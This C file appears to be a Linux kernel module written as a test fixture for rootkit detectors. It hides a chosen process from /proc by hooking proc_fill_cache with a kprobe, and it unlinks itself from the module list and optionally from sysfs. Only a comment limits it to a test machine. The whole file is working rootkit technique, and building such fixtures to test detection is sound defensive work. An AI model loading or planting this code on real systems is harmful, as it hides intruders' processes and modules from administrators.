// SPDX-License-Identifier: GPL-2.0
// What a rootkit does, for a test of what finds it: a process that /proc does not list, and a module that does not list
// itself. It runs in the tests' own machine only and does nothing else; both end with that machine.
#include <linux/kobject.h>
#include <linux/kprobes.h>
#include <linux/list.h>
#include <linux/module.h>
#include <linux/string.h>

static char *pid = "";
module_param(pid, charp, 0);
MODULE_PARM_DESC(pid, "process that is left out of the list of /proc");

static bool sysfs;
module_param(sysfs, bool, 0);
MODULE_PARM_DESC(sysfs, "leave /sys/module as well as the list of modules");

// bool proc_fill_cache(struct file *, struct dir_context *, const char *name, unsigned int len, ...) of fs/proc/base.c
static bool filled(void)
{
	return true;
}

static int fill(struct kprobe *probe, struct pt_regs *regs)
{
	if (regs->cx != strlen(pid) || memcmp((const char *)regs->dx, pid, regs->cx) != 0)
		return 0;
	regs->ip = (unsigned long)filled;
	return 1;
}

static struct kprobe probe = { .symbol_name = "proc_fill_cache", .pre_handler = fill };

static int __init hide_init(void)
{
	int failed = *pid != '\0' ? register_kprobe(&probe) : 0;

	if (failed)
		return failed;
	list_del_init(&THIS_MODULE->list);
	if (sysfs)
		kobject_del(&THIS_MODULE->mkobj.kobj);
	return 0;
}

static void __exit hide_exit(void)
{
	if (*pid != '\0')
		unregister_kprobe(&probe);
}

module_init(hide_init);
module_exit(hide_exit);
MODULE_DESCRIPTION("hides, for tests");
MODULE_LICENSE("GPL");
